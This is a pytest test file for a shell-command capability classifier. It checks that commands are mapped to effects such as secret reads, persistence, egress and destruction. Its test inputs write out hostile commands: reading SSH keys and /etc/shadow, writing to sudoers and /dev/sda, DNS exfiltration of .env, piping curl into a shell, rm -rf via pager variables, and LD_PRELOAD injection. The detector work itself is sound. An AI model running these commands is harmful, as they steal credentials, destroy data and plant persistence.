"""From roles and targets to capabilities: where paths lead, which hosts are named, what a word could turn into."""

import pytest

from capfence_sh import capabilities as cap
from capfence_sh import judge
from tests.judging import effects, request

PATHS = {
    "cat a.txt": set(),
    "cat .env": {"secret_read /workspace/.env"},
    "cat ../.env": {"secret_read /.env"},
    "cat < ~/.ssh/id_rsa": {"secret_read /home/user/.ssh/id_rsa"},
    "cat /proc/self/root/etc/shadow": {"secret_read /etc/shadow"},
    "cat /proc/self/environ": {"secret_read /proc/self/environ"},
    "cat .e*": {"secret_read /workspace/.e*"},
    "cat *.json": set(),
    "cat cred*.json": {"secret_read /workspace/cred*.json"},
    "ls -l .env": set(),
    "wc -c .env": set(),
    "echo x > a": {"write /workspace/a"},
    "echo x >> a": {"write /workspace/a"},
    "echo x >| a": {"write /workspace/a"},
    "echo x &> a": {"write /workspace/a"},
    "echo x 2> a": {"write /workspace/a"},
    "echo x <> a": {"write /workspace/a"},
    "echo x > /dev/null 2>&1": set(),
    "echo x >&2": set(),
    "ls 3>&1": set(),
    "echo x > /tmp/a": {"write /tmp/a"},
    "echo x > ~/.bashrc": {"write /home/user/.bashrc", "persistence /home/user/.bashrc"},
    "echo x > .git/hooks/pre-commit": {"write /workspace/.git/hooks/pre-commit", "persistence /workspace/.git/hooks/pre-commit"},
    "echo x > /etc/sudoers.d/x": {"write /etc/sudoers.d/x", "persistence /etc/sudoers.d/x", "root_access /etc/sudoers.d/x"},
    "echo x > /proc/sysrq-trigger": {"write /proc/sysrq-trigger", "root_access /proc/sysrq-trigger"},
    "echo x > /dev/sda": {"write /dev/sda", "destructive /dev/sda"},
    "echo x > /etc/capfence/policy.yaml": {"write /etc/capfence/policy.yaml", "control /etc/capfence/policy.yaml"},
    "echo x > /dev/tcp/h.example/80": {"egress h.example"},
    "cat < /dev/udp/127.1/53": {"egress loopback"},
    "exec 3<>/dev/tcp/h.example/443": {"egress h.example"},
    'echo x > "$F"': set(),  # not set: bash refuses an empty name
    "read -r f; echo x > $f": {"opaque:dynamic-target"},
    "f=a.txt; echo x > $f": {"write /workspace/a.txt"},
    "f=../../etc/passwd; echo x > out/$f": {"write /etc/passwd", "persistence /etc/passwd", "root_access /etc/passwd"},
    "echo x > log-$(date +%F).txt": {"write /workspace/log-0.txt"},
    "echo x > out/$(cat name)": {"opaque:dynamic-target", "write /workspace/out/*"},
    "rm a": {"destructive /workspace/a"},
    "rm -- -a": {"destructive /workspace/-a"},
    "rm /tmp/a": {"destructive /tmp/a"},
    'rm "$1"': {"opaque:dynamic-target", "destructive ?"},
    "mv a b": {"write /workspace/a", "write /workspace/b", "write /workspace/b/a"},
    "chmod +x a": {"write /workspace/a"},
    "chmod +x /tmp/a": {"root_access /tmp/a"},
    "chmod 4755 a": None,
}
HOSTS = {
    "curl http://localhost/": {"egress loopback"},
    "curl http://2130706433/": {"egress loopback"},
    "curl http://localhost@h.example/": {"egress h.example"},
    "curl http://169.254.169.254/latest/": {"egress 169.254.169.254", "secret_read 169.254.169.254"},
    'curl "http://localhost/$x"': {"egress loopback"},
    'read -r h; curl "http://$h/"': {"egress ?"},
    'h=h.example; curl "http://$h/"': {"egress h.example"},
    "dig example.com": {"remote_read example.com"},
    "read -r h; dig $h": {"remote_read ?"},
    "read -r h; dig $h.h.example": {"egress ?"},
    "dig $(cat names).h.example": {"egress ?"},
    "cat .env | xargs -n1 dig": None,
}
OPTIONS = {
    "sort $F": set(),  # not set: no word
    "read -r o; sort $o f": {"opaque:dynamic-option"},
    'read -r o; sort "$o" f': set(),  # data that was read, quoted: a name
    "x=$(cat opts); sort $x f": {"opaque:dynamic-option"},
    "x=$(cat opts); sort -- $x f": set(),
    "x=-o; sort $x /etc/passwd f": None,
    "ls $(cat opts)": set(),  # no option of ls runs or writes anything
    "frobnicate x": {"unknown"},
    "ls --frobnicate": {"unknown"},
    "git frobnicate": {"unknown"},
}


@pytest.mark.parametrize(("text", "expected"), [*PATHS.items(), *HOSTS.items(), *OPTIONS.items()])
def test_effects(text, expected):
    found = effects(text)
    if expected is not None:
        assert found == expected
    else:
        assert found


def test_a_link_that_leads_out_of_the_workspace_is_outside():
    assert effects("echo x > link/a", links={"/workspace/link": "/etc"}) == {"write /etc/a"}
    assert effects("rm link", links={"/workspace/link": "/etc"}) == {"destructive /workspace/link"}
    assert "write /etc/hosts" in effects("echo x > link/../hosts", links={"/workspace/link": "/etc/ssh"})
    assert "destructive /etc/x" in effects("cd link/.. && rm x", links={"/workspace/link": "/etc/ssh"})
    assert effects("rm a/../b/../x") == {"destructive /workspace/x"}


def test_variables_that_load_code():
    for text in ("LD_PRELOAD=/tmp/x.so ls", "export LD_PRELOAD=/tmp/x.so", "LD_LIBRARY_PATH=. ls", "BASH_ENV=x bash -c ls"):
        assert any(each.startswith("opaque") for each in effects(text)), text


def test_variables_that_name_programs():
    assert "destructive /srv" in effects("GIT_PAGER='rm -rf /srv' git log")
    assert "destructive /srv" in effects("export PAGER='rm -rf /srv'; man ls")
    assert effects("PAGER=less man ls") == set()
    assert effects("TZ=UTC date") == set()
    assert effects("LC_ALL=C sort f") == set()
    assert "destructive /srv" in effects("git log", env={"GIT_PAGER": "rm -rf /srv"})
    assert effects("git log", env={"GIT_PAGER": "cat"}) == set()
    assert effects("df -h", env={"OPENSSL_CONF": "/tmp/x.cnf"}) == {"opaque:unread-script"}
    assert (
        effects("df -h", env={"OPENSSL_CONF": "/etc/ssl/openssl.cnf", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus"}) == set()
    )
    assert effects("df -h", env={"DBUS_SESSION_BUS_ADDRESS": "unixexec:path=/tmp/x"}) == {"opaque:dynamic-command"}


def test_a_folder_in_front_of_the_path_decides_what_names_mean():
    assert "unknown /tmp/bin" in effects("PATH=/tmp/bin:$PATH ls")
    assert effects("PATH=$PATH:/tmp/bin ls") == set()
    assert effects("PATH=/usr/local/go/bin:$PATH ls") == set()


def test_without_a_workspace_everything_is_outside():
    from capfence_sh import judge
    from tests.judging import request

    judgement = judge.judge_text("echo x > a", request(workspace=""))
    assert [effect.inside for command in judgement.commands for effect in command.effects if effect.target == "/workspace/a"] == [False]


CALLED = {  # programs of one entry are shown by the name they are called by
    "security dump-keychain": "security",
    "glab pipeline list": "glab pipeline list",
    "pwsh -c Get-ChildItem": "pwsh",
    "curl x | zsh": "zsh",
    "kubectl po": "po",
}


@pytest.mark.parametrize(("line", "shown"), CALLED.items())
def test_the_evidence_is_what_was_written(line, shown):
    found = judge.judge_text(line, request())
    assert shown in [effect.evidence for command in found.commands for effect in command.effects if effect.capability != cap.EXECUTE]
